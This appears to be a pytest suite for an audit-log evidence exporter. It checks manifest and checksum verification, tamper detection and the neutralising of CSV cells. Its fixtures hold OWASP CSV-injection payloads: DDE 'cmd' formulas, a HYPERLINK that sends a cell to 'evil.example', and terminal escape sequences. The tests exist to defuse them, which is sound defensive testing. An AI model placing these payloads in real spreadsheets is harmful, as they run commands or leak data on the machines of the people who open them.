"""`zendesk-audit evidence`: the sealed export over a sandbox data set, and `evidence verify`."""
from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
from collections.abc import Iterator
from datetime import datetime, timezone
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import click
import duckdb
import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner

from conftest import load_sandbox
from zendesk_audit.audit.csv_safety import csv_cell, neutralise, write_csv
from zendesk_audit.cli.evidence import evidence_group
from zendesk_audit.load.pipeline import create_pipeline
from zendesk_audit.models.build import build_models
from zendesk_sandbox import Sandbox

PERIOD = ["--from", "2026-03-01", "--to", "2026-06-01T00:00:00Z"]
FORMULAS = {
    "source_label": '=HYPERLINK("http://evil.example/x","click")',
    "actor_name": "@SUM(1+1)",
    "change_description": "+cmd|' /C calc'!A0",
    "action_label": "-2+3",
}
# OWASP's CSV-injection cases (formula, DDE, and the tab and CR that hide them) and the escapes
# that defeated the `'` prefix: a CR that starts a new row, a NUL that LibreOffice drops before
# running the `=` behind it, leading blanks and invisible characters, a quote and a delimiter.
OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Error: click for details")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "Ticket\r=1+1",
    "Ticket\n=1+1",
    "Ticket\r\n@SUM(1+1)",
    "\x00=1+1",
    "\x00\x00+1+1",
    " =1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    '=1+1,"=2+2"',
    "\x1b[2J\x1b]0;pwned\x07=1+1",
    "\uff1d1+1",
]
PAYLOAD_FIRST_ID = 6_199_000_000_010


@pytest.fixture(scope="module")
def loaded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """2,000 sandbox records plus records full of formulas (`FORMULAS`, `OWASP_PAYLOADS`), loaded and modelled."""
    path = tmp_path_factory.mktemp("evidence") / "zendesk.duckdb"
    with Sandbox(records=2_000, seed=7) as sandbox:
        sandbox.append(1, created_at=datetime(2026, 4, 2, 10, 0, tzinfo=timezone.utc), id=6_199_000_000_001,
                       source_type="rule", **FORMULAS)
        for offset, payload in enumerate(OWASP_PAYLOADS):
            sandbox.append(1, created_at=datetime(2026, 4, 2, 11, offset, tzinfo=timezone.utc), id=PAYLOAD_FIRST_ID + offset,
                           source_type="rule", source_label=payload, actor_name=payload, change_description=payload)
        load_sandbox(sandbox, path)
    build_models(create_pipeline("duckdb", "zendesk_audit", duckdb_path=str(path)))
    yield path


def cli() -> click.Group:
    """The evidence group mounted as `cli.py` mounts it, so `evidence verify DIR` is tested as typed."""
    group = click.Group("zendesk-audit")
    group.add_command(evidence_group)
    return group


def run(*args: str) -> Any:
    return CliRunner().invoke(cli(), list(args), catch_exceptions=False)


def export(loaded: Path, out: Path, *extra: str) -> Any:
    return run("evidence", *PERIOD, "--out", str(out), "--duckdb-path", str(loaded), *extra)


def test_export_writes_every_file_and_verify_says_intact(loaded: Path, tmp_path: Path) -> None:
    out = tmp_path / "evidence"
    result = export(loaded, out)
    assert result.exit_code == 0, result.output
    assert "manifest sha256 " in result.output

    manifest = json.loads((out / "manifest.json").read_text())
    assert manifest["tool"] == "zendesk-audit" and manifest["tool_version"] and manifest["generated_at"]
    assert manifest["period"] == {"from": "2026-03-01T00:00:00Z", "to": "2026-06-01T00:00:00Z", "subdomain": None}
    paths = {entry["path"]: entry for entry in manifest["files"]}
    for name in ("records/audit_logs", "models/sensitive_changes", "models/off_hours_changes", "models/user_role_history",
                 "models/actor_activity_daily", "seeds/detection_rules"):
        assert f"{name}.csv" in paths and f"{name}.parquet" in paths
    assert "models/model_ledger.csv" not in paths
    assert manifest["models"]["sensitive_changes"]["version"] >= 1

    # Row counts are the database's, for the period, and the query behind each file is recorded.
    with duckdb.connect(str(loaded), read_only=True) as connection:
        expected = connection.execute(
            "select count(*) from zendesk_audit.audit_logs where created_at >= '2026-03-01 00:00:00+00' "
            "and created_at < '2026-06-01 00:00:00+00'"
        ).fetchone()[0]
        total = connection.execute("select count(*) from zendesk_audit.audit_logs").fetchone()[0]
        for entry in manifest["files"]:
            assert connection.execute(f"select count(*) from ({entry['query'].split(' order by ')[0]})").fetchone()[0] \
                == entry["rows"], entry["path"]
    assert 0 < expected < total
    assert paths["records/audit_logs.csv"]["rows"] == paths["records/audit_logs.parquet"]["rows"] == expected
    assert pq.read_table(out / "records" / "audit_logs.parquet").num_rows == expected
    assert "created_at >= " in paths["models/sensitive_changes.csv"]["query"]

    # SHA256SUMS lists every file and the manifest, in `sha256sum -c` format.
    sums = (out / "SHA256SUMS").read_text().splitlines()
    assert len(sums) == len(manifest["files"]) + 1 and sums[-1].endswith("  manifest.json")

    verified = run("evidence", "verify", str(out))
    assert verified.exit_code == 0, verified.output
    assert "intact" in verified.output
    digest = result.output.rsplit("manifest sha256 ", 1)[1].strip()
    assert run("evidence", "verify", str(out), "--manifest-sha256", digest).exit_code == 0


def test_verify_detects_a_changed_byte_and_names_the_file(loaded: Path, tmp_path: Path) -> None:
    out = tmp_path / "evidence"
    assert export(loaded, out).exit_code == 0
    target = out / "models" / "sensitive_changes.csv"
    data = bytearray(target.read_bytes())
    position = len(data) // 2
    data[position] = ord("X") if data[position] != ord("X") else ord("Y")
    target.write_bytes(bytes(data))

    result = run("evidence", "verify", str(out))
    assert result.exit_code == 1
    lines = result.stderr.strip().splitlines() if hasattr(result, "stderr") else result.output.strip().splitlines()
    assert len(lines) == 1, lines
    assert "models/sensitive_changes.csv" in lines[0] and "changed since export" in lines[0]


def test_verify_reports_one_line_per_problem(loaded: Path, tmp_path: Path) -> None:
    out = tmp_path / "evidence"
    first = export(loaded, out)
    digest = first.output.rsplit("manifest sha256 ", 1)[1].strip()
    (out / "records" / "accounts.parquet").unlink()
    (out / "models" / "notes.txt").write_text("added later\n")
    parquet = out / "records" / "audit_logs.parquet"
    parquet.write_bytes(parquet.read_bytes() + b"\0")

    result = run("evidence", "verify", str(out))
    assert result.exit_code == 1
    lines = result.output.strip().splitlines()
    assert len(lines) == 3, lines
    assert any("records/accounts.parquet: missing" in line for line in lines)
    assert any("models/notes.txt: not in the manifest" in line for line in lines)
    assert any("records/audit_logs.parquet: SHA-256" in line for line in lines)

    # Rewriting the manifest to match is caught by SHA256SUMS and by the hash kept elsewhere.
    manifest = json.loads((out / "manifest.json").read_text())
    manifest["generated_at"] = "2020-01-01T00:00:00Z"
    (out / "manifest.json").write_text(json.dumps(manifest))
    (out / "models" / "notes.txt").unlink()
    result = run("evidence", "verify", str(out), "--manifest-sha256", digest)
    assert result.exit_code == 1
    assert "manifest.json: SHA-256 is" in result.output and "SHA256SUMS: manifest.json" in result.output


def test_verify_quotes_a_hostile_manifest_and_file_names_inert(loaded: Path, tmp_path: Path) -> None:
    out = tmp_path / "evidence"
    assert export(loaded, out).exit_code == 0
    manifest = json.loads((out / "manifest.json").read_text())
    manifest["files"][0]["path"] = "records/\x1b]0;pwned\x07\x1b[2J.csv"
    manifest["files"][1]["sha256"] = "\u202e\r\x1b[1A ok"
    (out / "manifest.json").write_text(json.dumps(manifest))
    (out / "models" / "added\x1b[2J\u202e.txt").write_text("added later\n")
    result = run("evidence", "verify", str(out))
    assert result.exit_code == 1
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]", result.output), repr(result.output)
    assert "records/\\x1b]0;pwned\\x07\\x1b[2J.csv: missing" in result.output
    assert "models/added\\x1b[2J<U+202E>.txt: not in the manifest" in result.output


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(loaded: Path, tmp_path: Path) -> None:
    out = tmp_path / "evidence"
    assert export(loaded, out).exit_code == 0
    with open(out / "records" / "audit_logs.csv", newline="", encoding="utf-8") as handle:
        rows = {row["id"]: row for row in csv.DictReader(handle)}
    row = rows["6199000000001"]
    for field, value in FORMULAS.items():
        assert row[field] == "'" + value
    # Parquet keeps the exact values: it is not opened by spreadsheets.
    table = pq.read_table(out / "records" / "audit_logs.parquet").to_pylist()
    record = next(item for item in table if item["id"] == 6_199_000_000_001)
    assert record["source_label"] == FORMULAS["source_label"]
    # No cell of any CSV of the export starts with a formula character, even after blanks.
    for path in out.rglob("*.csv"):
        with open(path, newline="", encoding="utf-8") as handle:
            for line in csv.reader(handle):
                for cell in line:
                    assert not _runs_as_formula(cell), (path, cell)


def _runs_as_formula(cell: str) -> bool:
    """What a spreadsheet could run: a formula character first, also after blanks, NULs or invisibles."""
    start = cell.lstrip("".join(chr(code) for code in range(33)) + "\u200b\u202e\ufeff \u00a0")
    return start.startswith(("=", "+", "@", "\uff1d")) or (start.startswith("-") and not _is_number(start))


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=1+1", "'=1+1"), ("+1", "'+1"), ("-x", "'-x"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
     ("plain", "plain"), ("", ""), ("a=b", "a=b"), ("'quoted", "'quoted"), (" =1+1", "' =1+1"),
     ("\x00=1+1", "'\x00=1+1"), ("\u200b@A1", "'\u200b@A1"), ("\u3000+1", "'\u3000+1"), ("\uff1d1+1", "'\uff1d1+1")],
)
def test_neutralise(value: str, expected: str) -> None:
    assert neutralise(value) == expected


def test_csv_cell_keeps_numbers_and_writes_utc_times() -> None:
    assert csv_cell(-1) == "-1" and csv_cell(None) == "" and csv_cell(True) == "true"
    assert csv_cell(datetime(2026, 1, 2, 3, 4, 5, tzinfo=timezone.utc)) == "2026-01-02T03:04:05Z"
    buffer = io.StringIO()
    assert write_csv(buffer, ["=header", "b"], [("=x", "multi\nline"), (-1, None)]) == 2
    assert buffer.getvalue() == '"\'=header","b"\r\n"\'=x","multi\\nline"\r\n"-1",""\r\n'


def test_every_csv_row_is_one_quoted_crlf_line_whatever_the_cells_hold() -> None:
    """Controls escaped before neutralising: no payload of OWASP's list splits a row or runs."""
    buffer = io.StringIO()
    assert write_csv(buffer, ["id", "payload"], [(index, payload) for index, payload in enumerate(OWASP_PAYLOADS)]) \
        == len(OWASP_PAYLOADS)
    text = buffer.getvalue()
    lines = text.split("\r\n")
    assert lines[-1] == "" and len(lines) == len(OWASP_PAYLOADS) + 2
    assert all(line.startswith('"') and line.endswith('"') for line in lines[:-1])
    assert not any(ord(char) < 32 or 0x7F <= ord(char) <= 0x9F for line in lines for char in line)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == len(OWASP_PAYLOADS) + 1 and all(len(row) == 2 for row in rows)
    for (_, cell), payload in zip(rows[1:], OWASP_PAYLOADS):
        assert not _runs_as_formula(cell), (payload, cell)
    assert rows[OWASP_PAYLOADS.index("Ticket\r=1+1") + 1][1] == "Ticket\\r=1+1"
    assert rows[OWASP_PAYLOADS.index("\x00=1+1") + 1][1] == "\\x00=1+1"
    assert rows[OWASP_PAYLOADS.index("\u202e=1+1") + 1][1] == "'\u202e=1+1"


def test_an_export_with_hostile_cells_verifies_and_keeps_one_line_per_row(loaded: Path, tmp_path: Path) -> None:
    out = tmp_path / "evidence"
    assert export(loaded, out).exit_code == 0
    verified = run("evidence", "verify", str(out))
    assert verified.exit_code == 0, verified.output
    manifest = json.loads((out / "manifest.json").read_text())
    for entry in manifest["files"]:
        if entry["format"] == "csv":
            data = (out / entry["path"]).read_bytes()
            assert data.count(b"\r\n") == entry["rows"] + 1 and data.count(b"\n") == data.count(b"\r"), entry["path"]
    with open(out / "records" / "audit_logs.csv", newline="", encoding="utf-8") as handle:
        rows = {row["id"]: row for row in csv.DictReader(handle)}
    parquet = {item["id"]: item for item in pq.read_table(out / "records" / "audit_logs.parquet").to_pylist()}
    for offset, payload in enumerate(OWASP_PAYLOADS):
        row = rows[str(PAYLOAD_FIRST_ID + offset)]
        assert row["actor_name"] == row["source_label"] == row["change_description"] == csv_cell(payload)
        assert parquet[PAYLOAD_FIRST_ID + offset]["actor_name"] == payload  # Parquet: the exact text


SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
ODF_TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
ODF_TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"


def libreoffice_sheet(csv_path: Path, folder: Path) -> list[list[tuple[str, str | None]]]:
    """The CSV as LibreOffice Calc imports it by default (UTF-8, comma, formulas evaluated): per row,
    each cell's shown text and its formula (None when the cell is not a formula). Rows with no text
    are left out."""
    assert SOFFICE
    folder.mkdir()
    subprocess.run(
        [SOFFICE, f"-env:UserInstallation={(folder / 'profile').as_uri()}", "--headless", "--norestore",
         "--infilter=CSV:44,34,76,1", "--convert-to", "fods", "--outdir", str(folder), str(csv_path)],
        check=True, capture_output=True, timeout=300,
    )
    root = ElementTree.parse(folder / f"{csv_path.stem}.fods").getroot()
    sheet = []
    for row in root.iter(f"{ODF_TABLE}table-row"):
        cells: list[tuple[str, str | None]] = []
        for cell in row.findall(f"{ODF_TABLE}table-cell"):
            text = "\n".join("".join(paragraph.itertext()) for paragraph in cell.findall(f"{ODF_TEXT}p"))
            repeat = int(cell.get(f"{ODF_TABLE}number-columns-repeated", "1"))
            cells += [(text, cell.get(f"{ODF_TABLE}formula"))] * min(repeat, 64)
        if any(text for text, _ in cells):
            sheet.append(cells)
    return sheet


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed: apt-get install --no-install-recommends "
                    "libreoffice-calc-nogui to open the export in a real spreadsheet")
def test_libreoffice_opens_the_export_without_a_formula_or_a_forged_row(loaded: Path, tmp_path: Path) -> None:
    out = tmp_path / "evidence"
    assert export(loaded, out).exit_code == 0
    manifest = {entry["path"]: entry for entry in json.loads((out / "manifest.json").read_text())["files"]}
    sheet = libreoffice_sheet(out / "records" / "audit_logs.csv", tmp_path / "calc")
    formulas = [(text, formula) for row in sheet for text, formula in row if formula]
    assert formulas == []
    assert len(sheet) == manifest["records/audit_logs.csv"]["rows"] + 1
    header = [text for text, _ in sheet[0]]
    shown = {row[header.index("id")][0]: row for row in sheet[1:]}
    for offset, payload in enumerate(OWASP_PAYLOADS):
        row = shown[str(PAYLOAD_FIRST_ID + offset)]
        for column in ("actor_name", "source_label", "change_description"):
            assert row[header.index(column)][0] == csv_cell(payload), (column, payload)


def test_subdomain_filter_and_usage_errors(loaded: Path, tmp_path: Path) -> None:
    out = tmp_path / "other"
    assert export(loaded, out, "--subdomain", "not-loaded").exit_code == 0
    manifest = json.loads((out / "manifest.json").read_text())
    assert {entry["path"]: entry["rows"] for entry in manifest["files"]}["records/audit_logs.csv"] == 0

    again = export(loaded, out)
    assert again.exit_code == 2 and "is not an empty folder" in again.output
    bad = run("evidence", "--from", "yesterday", "--to", "2026-01-01", "--out", str(tmp_path / "x"),
              "--duckdb-path", str(loaded))
    assert bad.exit_code == 2 and "--from 'yesterday' is not an ISO 8601" in bad.output
    missing = run("evidence", "--from", "2026-01-01", "--duckdb-path", str(loaded))
    assert missing.exit_code == 2 and "evidence needs --from ISO --to ISO --out DIR" in missing.output
    assert run("evidence", "verify", str(tmp_path / "nowhere")).exit_code == 2
